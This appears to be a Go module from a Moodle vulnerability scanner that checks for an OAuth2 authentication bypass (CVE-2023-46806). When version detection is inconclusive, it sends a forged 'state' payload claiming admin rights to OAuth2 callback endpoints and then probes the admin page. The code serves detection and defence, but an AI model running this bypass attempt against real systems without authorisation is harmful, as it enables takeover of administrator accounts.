package moodle

import (
	"context"
	"encoding/json"
	"fmt"
	"net/url"
	"strings"

	"github.com/moodlesec/moodlescan/pkg/auth/common"
)

var oauth2References = []string{
	"https://moodle.org/mod/forum/discuss.php?d=447992",
}

const oauth2Remediation = "Update to Moodle versions 4.2.2, 4.1.5, 4.0.11 or later."

// testOAuth2Bypass checks for the CVE-2023-46806 OAuth2 authentication
// bypass. When version metadata places the target in the vulnerable range the
// finding is emitted without touching the callback endpoints; otherwise a
// live exploitation attempt is made.
func (s *Scanner) testOAuth2Bypass(ctx context.Context) *common.Finding {
	s.logger.Info("Testing for OAuth2 authentication bypass...")

	oauthURL := s.target + "/auth/oauth2/login.php"

	resp := s.safeRequest(ctx, "GET", oauthURL, requestOptions{})
	if resp == nil || resp.StatusCode != 200 || !strings.Contains(resp.Body, "OAuth 2") {
		s.logger.Debug("OAuth2 authentication not enabled or not accessible")
		return nil
	}

	// Affects Moodle < 4.2.2, < 4.1.5, < 4.0.11
	if s.version != nil && s.version.Version != "" {
		version := s.version.Version
		if vulnerableOAuth2Version(version) {
			s.logger.Warn("Moodle version may be vulnerable to OAuth2 authentication bypass",
				"version", version)
			return &common.Finding{
				Title: "OAuth2 Authentication Bypass Vulnerability",
				Description: "The Moodle installation appears to be running a version vulnerable to CVE-2023-46806. " +
					"This vulnerability allows attackers to bypass authentication via the OAuth2 module.",
				Severity:    common.SeverityCritical,
				CVE:         "CVE-2023-46806",
				Evidence:    fmt.Sprintf("Moodle version %s detected, which is in the vulnerable range. OAuth2 is enabled.", version),
				Remediation: oauth2Remediation,
				References:  oauth2References,
			}
		}
	}

	// Version inconclusive: attempt the actual exploit.
	query := url.Values{}
	query.Set("id", "1")
	query.Set("wantsurl", s.target+"/admin/")
	query.Set("sesskey", "random")

	resp = s.safeRequest(ctx, "GET", oauthURL, requestOptions{query: query})
	if resp == nil || !strings.Contains(resp.FinalURL, "state=") {
		return nil
	}

	redirectURL, err := url.Parse(resp.FinalURL)
	if err != nil {
		s.logger.Debug("Error testing OAuth2 bypass", "error", err)
		return nil
	}
	if redirectURL.Query().Get("state") == "" {
		return nil
	}

	statePayload, err := json.Marshal(map[string]interface{}{
		"sesskey":  "random",
		"wantsurl": s.target + "/admin/",
		"username": "admin",
		"admin":    true,
		"role":     "admin",
	})
	if err != nil {
		s.logger.Debug("Error testing OAuth2 bypass", "error", err)
		return nil
	}
	maliciousState := url.QueryEscape(string(statePayload))

	callbackURLs := []string{
		s.target + "/auth/oauth2/callback.php",
		s.target + "/admin/tool/oauth2/login.php",
	}

	for _, callbackURL := range callbackURLs {
		query := url.Values{}
		query.Set("state", maliciousState)
		query.Set("code", "BYPASS")

		s.safeRequest(ctx, "GET", callbackURL, requestOptions{query: query})

		adminResp := s.safeRequest(ctx, "GET", s.target+"/admin/index.php", requestOptions{})
		if adminResp != nil && isAdminPage(adminResp.StatusCode, adminResp.Body) {
			s.logger.Warn("OAuth2 authentication bypass successful!")
			return &common.Finding{
				Title: "OAuth2 Authentication Bypass Vulnerability",
				Description: "The Moodle installation is vulnerable to an OAuth2 authentication bypass vulnerability. " +
					"This vulnerability allows attackers to bypass authentication and gain administrative access.",
				Severity:    common.SeverityCritical,
				CVE:         "CVE-2023-46806",
				Evidence:    "Successfully bypassed authentication using OAuth2 state parameter manipulation.",
				Remediation: oauth2Remediation,
				References:  oauth2References,
			}
		}
	}

	return nil
}
